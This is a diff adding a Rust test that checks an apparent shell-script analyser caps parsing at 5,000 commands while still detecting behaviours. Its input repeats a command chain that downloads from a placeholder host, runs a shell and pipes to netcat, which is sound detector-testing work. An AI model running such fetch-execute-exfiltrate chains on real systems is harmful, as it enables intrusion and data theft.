@@ -168,6 +168,13 @@ fn nesting_is_capped() {
 }
 
 #[test]
+fn many_commands_are_capped() {
+    let script = posix(&"curl -o a x.invalid/a; sh b | nc c;".repeat(20_000));
+    assert_eq!((script.commands.len(), script.is_complete), (5_000, false));
+    assert!(!behaviours(&script).is_empty());
+}
+
+#[test]
 fn growth_by_variables_is_capped() {
     let mut text = String::from("A=xxxxxxxxxxxxxxxx;");
     for _ in 0..200 {
